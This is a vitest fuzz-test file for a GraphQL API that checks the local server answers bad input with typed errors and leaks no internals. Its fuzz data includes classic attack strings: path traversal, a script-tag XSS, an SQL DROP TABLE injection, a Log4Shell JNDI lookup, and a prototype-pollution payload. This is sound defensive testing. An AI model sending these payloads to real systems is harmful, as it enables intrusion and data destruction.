import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  getNullableType,
  isEnumType,
  isInputObjectType,
  isListType,
  type GraphQLArgument,
  type GraphQLInputType,
} from 'graphql';
import type { LocalMode } from '../../../local/start-local';
import { ADMIN, signIn, startTestLocal } from '../../../testkit/local-mode';
import {
  loadSchema,
  operationFor,
  rootFields,
  sampleArgs,
  sampleValue,
  type RootField,
} from './schema-model';

// Fuzzing the API from its schema: every argument of every query and mutation gets random
// and boundary values. A fixed seed makes a failure reproducible; the request count is bounded.

const SEED = 0x5ec0_2026;
const CASES_PER_FIELD = 7;
const MAX_REQUESTS = 300;

/** mulberry32: a small seeded PRNG, enough for picking cases. */
function prng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (n: number) => Math.floor(next() * n),
    pick: <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!,
  };
}

const MB = 1_000_000;
const nestedList = (depth: number): unknown => {
  let value: unknown = 'x';
  for (let i = 0; i < depth; i++) value = [value];
  return value;
};
const nestedObject = (depth: number): unknown => {
  let value: unknown = 'x';
  for (let i = 0; i < depth; i++) value = { nested: value };
  return value;
};

const TEXT = [
  '',
  ' ',
  'a'.repeat(MB),
  'b'.repeat(200_000),
  '☃💧 ǅ \u202e\u0000\u0007 ﷽',
  '\ud800 lone surrogate',
  '../../../etc/passwd',
  '<script>alert(1)</script>',
  "'; DROP TABLE devices; --",
  '${jndi:ldap://example.com/a}',
  '%s%n%x',
  '{"$ne": null}',
  'devices#ALL',
  '__proto__',
];
const NUMBERS = [
  0,
  -1,
  -0.0001,
  2147483647,
  2147483648,
  -2147483649,
  Number.MAX_SAFE_INTEGER,
  1e308,
  -1e308,
  5e-324,
  1.5,
  'NaN',
  'Infinity',
  '1e999',
  '12',
];
const WRONG_TYPES: unknown[] = [
  {},
  [],
  { a: 1 },
  true,
  42,
  'text',
  [null],
  nestedList(200),
  nestedObject(200),
];

/** A random or boundary value for `type`, or (sometimes) one of the wrong type. */
function oddValue(type: GraphQLInputType, rand: ReturnType<typeof prng>, depth = 0): unknown {
  const roll = rand.next();
  if (roll < 0.1) return null;
  if (roll < 0.2) return rand.pick(WRONG_TYPES);
  const nullable = getNullableType(type);
  if (isListType(nullable)) {
    const item = nullable.ofType as GraphQLInputType;
    switch (rand.int(4)) {
      case 0:
        return [];
      case 1:
        return Array.from({ length: 10_000 }, () => sampleValue(item));
      case 2:
        return nestedList(500);
      default:
        return [oddValue(item, rand, depth + 1), sampleValue(item)];
    }
  }
  if (isEnumType(nullable)) return rand.pick(['NOT_A_VALUE', '', 'admin', 0, nullable.getValues()[0]?.value]);
  if (isInputObjectType(nullable)) {
    const fields = Object.values(nullable.getFields());
    const base = sampleValue(nullable) as Record<string, unknown>;
    switch (depth > 2 ? 3 : rand.int(5)) {
      case 0:
        return {};
      case 1:
        return { ...base, notAField: 'extra' };
      case 2:
        return nestedObject(1_000);
      default: {
        const field = rand.pick(fields);
        return { ...base, [field.name]: oddValue(field.type, rand, depth + 1) };
      }
    }
  }
  if (['Int', 'Float', 'AWSTimestamp'].includes(nullable.name)) return rand.pick(NUMBERS);
  if (nullable.name === 'Boolean') return rand.pick(['true', 0, 1, 'yes']);
  return rand.pick(TEXT);
}

interface FuzzCase {
  root: RootField;
  arg: GraphQLArgument;
  args: Record<string, unknown>;
}

function fuzzCases(): FuzzCase[] {
  const rand = prng(SEED);
  const schema = loadSchema();
  const cases: FuzzCase[] = [];
  for (const root of rootFields(schema)) {
    if (root.kind === 'subscription' || root.field.args.length === 0) continue;
    // A field with more arguments than CASES_PER_FIELD still gets one case per argument.
    for (let i = 0; i < Math.max(CASES_PER_FIELD, root.field.args.length); i++) {
      // Every argument gets its turn before any gets a second one.
      const arg = root.field.args[i % root.field.args.length]!;
      const args = {
        ...sampleArgs(root.field, `fuzz-${root.field.name}`),
        [arg.name]: oddValue(arg.type, rand),
      };
      cases.push({ root, arg, args });
    }
  }
  return cases;
}

const CASES = fuzzCases();

let local: LocalMode;
let adminToken: string;
let requests = 0;

beforeAll(async () => {
  local = await startTestLocal();
  ({ idToken: adminToken } = await signIn(local.outputs, ADMIN.email, ADMIN.password));
});

afterAll(async () => {
  await local?.stop();
});

/** What must never reach a caller: stack frames, file paths, internal class and library names. */
const LEAKS: [string, RegExp][] = [
  ['a stack frame', /(^|\n|\\n)\s*at \S+|\(\S+:\d+:\d+\)/],
  // Bounded: an unbounded [\w-]+ rescans a long echoed value from every position (quadratic).
  ['a source path', /\/work\/|\/home\/|\/tmp\/|[\w-]{1,100}\.(?:ts|js|mjs|cjs):\d+/],
  ['node_modules', /node_modules/],
  [
    'an internal name',
    /\b(?:ResolverNotFoundException|ConditionalCheckFailedException|TransactionCanceledException|ValidationException|ResourceNotFoundException|UserNotFoundException|UsernameExistsException|InvalidParameterException|ZodError|TypeError|ReferenceError|RangeError|SyntaxError|DuckDB\w*|dynalite|cognito-local|AggregateError)\b/,
  ],
  [
    'a JavaScript failure',
    /Cannot read propert|is not a function|is not defined(?! by type)|Maximum call stack|\[object Object\]/,
  ],
];

interface Answer {
  status: number;
  body: {
    data?: Record<string, unknown> | null;
    errors?: { errorType?: unknown; message?: unknown }[];
  };
}

/** Sends a raw request and checks what every answer must be: JSON, no 5xx, typed errors, no internals. */
async function send(body: string, init: { method?: string; token?: string | null } = {}): Promise<Answer> {
  requests++;
  const token = init.token === undefined ? adminToken : init.token;
  const response = await fetch(local.outputs.GraphQLUrl, {
    method: init.method ?? 'POST',
    headers: { 'content-type': 'application/json', ...(token ? { authorization: token } : {}) },
    ...(init.method === 'GET' ? {} : { body }),
  });
  const text = await response.text();
  expect(response.status, text.slice(0, 500)).toBeLessThan(500);
  expect(response.headers.get('content-type')).toMatch(/^application\/json/);
  const parsed = JSON.parse(text) as Answer['body'];
  expect(parsed.errors !== undefined || parsed.data !== undefined, text.slice(0, 500)).toBe(true);
  for (const error of parsed.errors ?? []) {
    expect(error.errorType, JSON.stringify(error).slice(0, 500)).toEqual(expect.any(String));
    expect(error.message).toEqual(expect.any(String));
  }
  for (const [what, pattern] of LEAKS) {
    const found = pattern.exec(text);
    expect(
      found,
      `the answer carries ${what}: ${found ? text.slice(Math.max(0, found.index - 200), found.index + 200) : ''}`,
    ).toBeNull();
  }
  return { status: response.status, body: parsed };
}

const post = (request: unknown, token?: string | null) => send(JSON.stringify(request), { token });

describe('schema-driven input fuzzing', () => {
  it('generates a bounded, reproducible set of cases covering every argument', () => {
    const schema = loadSchema();
    const withArgs = rootFields(schema).filter((r) => r.kind !== 'subscription' && r.field.args.length);
    for (const root of withArgs)
      for (const arg of root.field.args)
        expect(
          CASES.some((c) => c.root.coordinate === root.coordinate && c.arg.name === arg.name),
          `${root.coordinate}(${arg.name})`,
        ).toBe(true);
    expect(CASES.length).toBeLessThanOrEqual(MAX_REQUESTS - 60);
    expect(JSON.stringify(fuzzCases().map((c) => c.args))).toBe(JSON.stringify(CASES.map((c) => c.args)));
  });

  it('answers random and boundary arguments with typed errors or data, never internals', async () => {
    const errorTypes = new Map<string, number>();
    const unknownFailures: string[] = [];
    for (const c of CASES) {
      const answer = await post(operationFor(c.root, c.args));
      for (const error of answer.body.errors ?? []) {
        errorTypes.set(String(error.errorType), (errorTypes.get(String(error.errorType)) ?? 0) + 1);
        // A bad argument is the caller's to fix: it must not end as an unknown failure on our side.
        if (error.errorType === 'InternalError' || error.errorType === 'Lambda:Unhandled')
          unknownFailures.push(
            `${c.root.coordinate}(${c.arg.name}): ${JSON.stringify(c.args).slice(0, 200)}`,
          );
      }
    }
    expect(unknownFailures).toEqual([]);
    expect(errorTypes.get('ValidationError')).toBeGreaterThan(0);
  });

  it('answers inline literals out of range or malformed with ValidationError', async () => {
    const literals = [
      '{ devices(limit: 99999999999999999999) { nextToken } }',
      '{ devices(limit: -1) { nextToken } }',
      '{ devices(limit: "ten") { nextToken } }',
      '{ device(id: "\\u0000\\ud800") { id } }',
      `{ device(id: ${'['.repeat(2_000)}"x"${']'.repeat(2_000)}) { id } }`,
      '{ readings(deviceId: "x", sensor: "ph", from: "yesterday", to: "2026-11-27T00:00:00Z") { nextToken } }',
      'mutation { createDevice(input: { id: "x", name: "y", sensorIntervalMs: 1e309 }) { id } }',
      'mutation { addUserAccount(input: { email: "fuzz@example.com", role: SUPERUSER }) { email } }',
    ];
    for (const query of literals) {
      const answer = await post({ query });
      expect(answer.status).toBe(200);
      expect(answer.body.errors?.[0]?.errorType, query.slice(0, 120)).toBe('ValidationError');
    }
  });

  it('refuses oversized and deeply nested lists with ValidationError', async () => {
    const sensor = { id: 'ph', measurement: 'ph' };
    const points = Array.from({ length: 10_000 }, (_, i) => ({ raw: i, actual: i / 10 }));
    const create = 'mutation C($input: CreateDeviceInput!) { createDevice(input: $input) { id } }';
    const inputs = [
      {
        id: 'fuzz-many-sensors',
        name: 'n',
        sensors: Array.from({ length: 10_000 }, (_, i) => ({ ...sensor, id: `s${i}` })),
      },
      { id: 'fuzz-many-points', name: 'n', sensors: [{ ...sensor, calibration: { points } }] },
      { id: 'fuzz-nested-sensors', name: 'n', sensors: nestedList(500) },
      {
        id: 'fuzz-nested-points',
        name: 'n',
        sensors: [{ ...sensor, calibration: { points: nestedList(500) } }],
      },
    ];
    for (const input of inputs) {
      const answer = await post({ query: create, variables: { input } });
      expect(answer.body.errors?.[0]?.errorType, input.id).toBe('ValidationError');
    }
  });

  it('refuses malformed HTTP requests with a typed error', async () => {
    const cases: [string, { method?: string; token?: string | null }, number][] = [
      ['not json', {}, 400],
      ['', {}, 400],
      ['[]', {}, 400],
      ['{"query": 1}', {}, 400],
      ['{"query": "{ me { id } }", "variables": "x"}', {}, 400],
      [JSON.stringify({ query: '{ me { id } }', pad: 'p'.repeat(2 * MB) }), {}, 413],
      ['{"query": "{ me { id } }"}', { method: 'PUT' }, 405],
      ['', { method: 'GET' }, 405],
      ['not json', { token: null }, 401],
      ['{"query": "{ me { id } }"}', { token: 'Bearer ' + 'x'.repeat(10_000) }, 401],
    ];
    for (const [body, init, status] of cases) {
      const answer = await send(body, init);
      expect(answer.status, body.slice(0, 60)).toBe(status);
      expect(answer.body.data ?? null).toBeNull();
    }
  });

  it('does not let __proto__ in variables pollute the server', async () => {
    const answer = await send(
      '{"query": "query Q($limit: Int) { devices(limit: $limit) { nextToken } }", "variables": {"__proto__": {"limit": 1, "isAdmin": true}, "constructor": {"prototype": {"polluted": true}}}}',
    );
    expect(answer.status).toBe(200);
    // The local mode runs in this process, so a polluted Object.prototype would show here.
    const probe = {} as Record<string, unknown>;
    expect([probe.polluted, probe.isAdmin, probe.limit]).toEqual([undefined, undefined, undefined]);
  });

  it('enforces the depth limit of 15', async () => {
    // The schema has no cycles, so only introspection nests this deep: __schema > types > fields > type > ofType...
    const deep = (depth: number) =>
      `{ __schema { types { fields { type ${'{ ofType '.repeat(depth - 5)}{ name }${' }'.repeat(depth - 5)} } } } }`;
    const atLimit = await post({ query: deep(15) });
    expect(atLimit.body.errors).toBeUndefined();
    const over = await post({ query: deep(16) });
    expect(over.body.errors?.[0]).toMatchObject({
      errorType: 'ValidationError',
      message: expect.stringContaining('too deep'),
    });
    expect(over.body.data ?? null).toBeNull();
    const viaFragments = await post({
      query: `{ __schema { ...A } } fragment A on __Schema { types { ...B } } fragment B on __Type { fields { type { ...C } } } fragment C on __Type { ${'ofType { '.repeat(20)}name${' }'.repeat(20)} }`,
    });
    expect(viaFragments.body.errors?.[0]).toMatchObject({
      errorType: 'ValidationError',
      message: expect.stringContaining('too deep'),
    });
    const cycle = await post({ query: '{ ...A } fragment A on Query { ...B } fragment B on Query { ...A }' });
    expect(cycle.body.errors?.[0]).toMatchObject({ errorType: 'ValidationError' });
  });

  it('refuses alias floods by root-field and total-field limits', async () => {
    const roots = (n: number) => `{ ${Array.from({ length: n }, (_, i) => `a${i}: me { id }`).join(' ')} }`;
    expect((await post({ query: roots(10) })).body.errors).toBeUndefined();
    const eleven = await post({ query: roots(11) });
    expect(eleven.body.errors?.[0]).toMatchObject({
      errorType: 'ValidationError',
      message: expect.stringContaining('Too many top-level fields'),
    });
    const thousand = await post({ query: roots(1_000) });
    expect(thousand.body.errors?.map((e) => e.errorType)).toEqual(
      expect.arrayContaining(['ValidationError']),
    );
    expect(JSON.stringify(thousand.body.errors)).toMatch(
      /Too many top-level fields|Query too large|more than/,
    );

    const nested = (n: number) => `{ me { ${Array.from({ length: n }, (_, i) => `f${i}: id`).join(' ')} } }`;
    expect((await post({ query: nested(499) })).body.errors).toBeUndefined();
    expect((await post({ query: nested(500) })).body.errors?.[0]).toMatchObject({
      errorType: 'ValidationError',
      message: expect.stringContaining('Query too large'),
    });
    // A fragment spread ten times costs its fields ten times.
    const fragment = `fragment F on User { ${Array.from({ length: 60 }, (_, i) => `g${i}: email`).join(' ')} }`;
    const spread = `{ me { ${Array.from({ length: 10 }, () => '...F').join(' ')} } } ${fragment}`;
    expect((await post({ query: spread })).body.errors?.[0]).toMatchObject({
      errorType: 'ValidationError',
      message: expect.stringContaining('Query too large'),
    });
    // A document too big to parse is refused before validation.
    const tokens = `{ me { ${'id '.repeat(12_000)}} }`;
    expect((await post({ query: tokens })).body.errors?.[0]).toMatchObject({ errorType: 'ValidationError' });
  });

  it('stays up and serves ordinary requests after the fuzzing, within the request bound', async () => {
    const health = await fetch(local.outputs.HealthUrl);
    expect(health.status).toBe(200);
    expect(await health.json()).toMatchObject({ status: 'ok' });
    const me = await post({ query: '{ me { email } }' });
    expect(me.body).toEqual({ data: { me: { email: ADMIN.email } } });
    expect(requests).toBeGreaterThan(CASES.length);
    expect(requests).toBeLessThanOrEqual(MAX_REQUESTS);
  });
});
